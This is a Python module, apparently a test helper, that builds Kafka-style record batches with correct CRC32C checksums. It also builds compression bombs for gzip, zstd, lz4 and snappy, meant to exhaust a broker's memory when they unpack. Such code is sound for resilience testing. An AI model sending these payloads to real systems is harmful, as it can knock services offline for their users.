"""What the attacks send: large batches with a right CRC, and batches that unpack a thousandfold."""
import struct, zlib

from client import TABLE, varint

# Eight tables: a batch of 16 MiB is signed in seconds.
SLICES = [TABLE]
for _ in range(7):
    last = SLICES[-1]
    SLICES.append([(last[n] >> 8) ^ TABLE[last[n] & 0xFF] for n in range(256)])


def crc32c(data):
    t0, t1, t2, t3, t4, t5, t6, t7 = SLICES
    crc, whole = 0xFFFFFFFF, len(data) // 8 * 8
    for low, high in struct.iter_unpack("<II", data[:whole]):
        low ^= crc
        crc = (t7[low & 255] ^ t6[low >> 8 & 255] ^ t5[low >> 16 & 255] ^ t4[low >> 24]
               ^ t3[high & 255] ^ t2[high >> 8 & 255] ^ t1[high >> 16 & 255] ^ t0[high >> 24])
    for byte in data[whole:]:
        crc = TABLE[(crc ^ byte) & 0xFF] ^ (crc >> 8)
    return crc ^ 0xFFFFFFFF


def record(at, value, key=None):
    key_part = varint(-1) if key is None else varint(len(key)) + key
    body = b"\0" + varint(0) + varint(at) + key_part + varint(len(value)) + value + varint(0)
    return varint(len(body)) + body


def signed(records, count, codec=0, timestamp_ms=1_760_000_000_000):
    """A batch around the bytes of its records, packed or not."""
    checked = struct.pack(">hiqqqhii", codec, count - 1, timestamp_ms, timestamp_ms, -1, -1, -1, count) + records
    return struct.pack(">qiibI", 0, len(checked) + 9, -1, 2, crc32c(checked)) + checked


def batch(count, value, key=None):
    return signed(b"".join(record(i, value, key) for i in range(count)), count)


# ---- bombs: one record whose value is a run of one byte ----

GZIP, SNAPPY, LZ4, ZSTD = 1, 2, 3, 4
CODECS = {"gzip": GZIP, "snappy": SNAPPY, "lz4": LZ4, "zstd": ZSTD}


def run_of(size, key=None):
    """(head, length, tail) of one record with a value of `size` zeros."""
    key_part = varint(-1) if key is None else varint(len(key)) + key
    head = b"\0" + varint(0) + varint(0) + key_part + varint(size)
    return varint(len(head) + size + 1) + head, size, b"\0"


def bomb(codec, size, key=None):
    """A batch with one record of that many zeros: as small as the codec can make it."""
    head, run, tail = run_of(size, key)
    packed = {GZIP: gzip, SNAPPY: snappy, LZ4: lz4, ZSTD: zstd}[codec](head, run, tail)
    return signed(packed, 1, codec)


def gzip(head, run, tail):
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    out = packer.compress(head)
    for at in range(0, run, 1 << 20):
        out += packer.compress(bytes(min(1 << 20, run - at)))
    return out + packer.compress(tail) + packer.flush()


def zstd(head, run, tail):
    """Raw and run-length blocks of 128 KiB; a window of 128 KiB, no content size."""
    def block(kind, size, data, last=False):
        return struct.pack("<I", size << 3 | kind << 1 | last)[:3] + data
    out = struct.pack("<IBB", 0xFD2FB528, 0, 7 << 3) + block(0, len(head), head)
    for at in range(0, run, 128 << 10):
        out += block(1, min(128 << 10, run - at), b"\0")
    return out + block(0, len(tail), tail, True)


def lz4(head, run, tail):
    """Blocks of 4 MiB, each a literal zero and one match of the rest."""
    def literals(data, match):
        token = min(len(data), 15) << 4 | min(match, 15)
        return bytes([token]) + (extended(len(data) - 15) if len(data) >= 15 else b"") + data
    def extended(left):
        return b"\xff" * (left // 255) + bytes([left % 255])
    def block(data):
        return struct.pack("<I", len(data)) + data
    out = struct.pack("<IBBB", 0x184D2204, 0x60, 0x70, 0) + block(literals(head, 0))
    while run:
        size = min(run, 4 << 20)
        run -= size
        match = size - 1 - 5 - 4  # the last five bytes of a block are literals
        if match < 15:
            out += block(literals(bytes(size), 0))
            continue
        out += block(literals(b"\0", 15) + b"\x01\0" + extended(match - 15) + literals(bytes(5), 0))
    return out + block(literals(tail, 0)) + struct.pack("<I", 0)


def snappy(head, run, tail):
    """One raw block: a literal, then copies of 64 bytes."""
    def uvarint(n):
        out = b""
        while n > 0x7F:
            out, n = out + bytes([n & 0x7F | 0x80]), n >> 7
        return out + bytes([n])
    def literal(data):
        return bytes([(len(data) - 1) << 2]) + data
    copies, rest = divmod(run - 1, 64)
    out = uvarint(len(head) + run + len(tail)) + literal(head) + literal(b"\0") + b"\xfe\x01\0" * copies
    return out + (literal(bytes(rest)) if rest else b"") + literal(tail)
